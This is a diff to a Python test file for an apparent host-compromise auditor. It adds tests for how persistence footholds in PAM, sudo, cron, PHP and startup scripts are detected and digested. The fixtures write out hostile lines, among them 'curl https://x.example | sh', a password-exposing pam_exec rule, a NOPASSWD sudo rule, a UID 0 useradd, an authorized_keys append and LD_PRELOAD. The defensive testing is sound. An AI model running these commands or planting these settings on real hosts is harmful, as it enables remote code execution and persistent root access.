@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import hashlib
 import json
 import time
 import zlib
@@ -16,6 +17,7 @@ from auditor.compromise.places import Place, Slot
 from auditor.looks.gathered import merged
 from auditor.looks.traces import key_of
 from auditor.models.hunts import KINDS, OUTSIDE
+from auditor.models.reviews import MAX_RULES
 
 SHM, TMP = "/dev/shm/x", "/tmp/x"  # noqa: S108 - never opened
 
@@ -276,3 +278,56 @@ def test_places_are_taken_in_as_they_were_said() -> None:
     assert found.cut_short == ("files",)
     (trace,) = footholds.found(found.all)
     assert "\n" not in trace.where
+
+
+def digests(*lines: str) -> str:
+    return " ".join(hashlib.sha256(line.encode()).hexdigest()[:12] for line in lines)
+
+
+@pytest.mark.parametrize(
+    ("one", "lines"),
+    [
+        (place("pam", "auth optional pam_exec.so expose_authtok /opt/x", "passwords"), 1),
+        (place("sudo", "www-data ALL=(ALL) NOPASSWD: ALL", "service"), 1),
+        (place("web_module", "load_module /opt/x.so;"), 1),
+        (place("web_module", ""), 0),
+        (place("php", "auto_prepend_file = /tmp/x", programs=((TMP, "foreign"),)), 1),
+        (place("cron", "curl https://x.example | sh"), 0),
+    ],
+)
+def test_a_line_of_settings_is_told_by_its_digest(one: Place, lines: int) -> None:
+    (found,) = footholds.found([one])
+    assert found.exactly == (digests(one.said) if lines else "")
+
+
+def test_of_a_script_the_lines_are_told_that_say_something() -> None:
+    bad = "curl https://x.example | sh", f"{SHM} --daemon"
+    one = place(
+        "start", "\n".join(["alias x=y", *bad, "umask 022"]), programs=((SHM, "foreign"), ("/opt/y", "foreign"))
+    )
+    (found,) = footholds.found([one])
+    assert found.exactly == digests(*bad)
+
+
+def test_more_lines_than_a_trace_has_room_for_are_told_by_none() -> None:
+    one = place("hook", "\n".join(f"curl https://x.example/{n} | sh" for n in range(5)))
+    (found,) = footholds.found([one])
+    assert found.exactly == ""
+
+
+def test_however_many_rules_there_are_it_is_told_how_the_thing_stands_to_packages() -> None:
+    said = "curl https://x.example | sh; chmod 4755 /x; useradd -o -u 0 x; echo x >> authorized_keys; LD_PRELOAD=/x y"
+    (found,) = footholds.found([place("unit", said, "replaces")])
+    assert len(found.rules) == MAX_RULES
+    assert {"foreign", "replaces_unit"} < set(found.rules)
+
+
+def test_what_a_package_brought_and_somebody_changed_is_told_so_beside_what_it_says() -> None:
+    (found,) = footholds.found([place("start", "curl https://x.example | sh", standing="changed")])
+    assert found.rules == ("runs_fetched", "changed")
+    assert footholds.found([place("start", "umask 022", standing="changed")]) == ()
+
+
+def test_a_pool_that_is_called_www_prepends_no_less() -> None:
+    one = place("php", "x", where="/etc/php/8.4/fpm/pool.d/www.conf", programs=((TMP, "foreign"),))
+    assert told(one) == ("interpreter", "strong", ("prepended", "prepends_odd"))
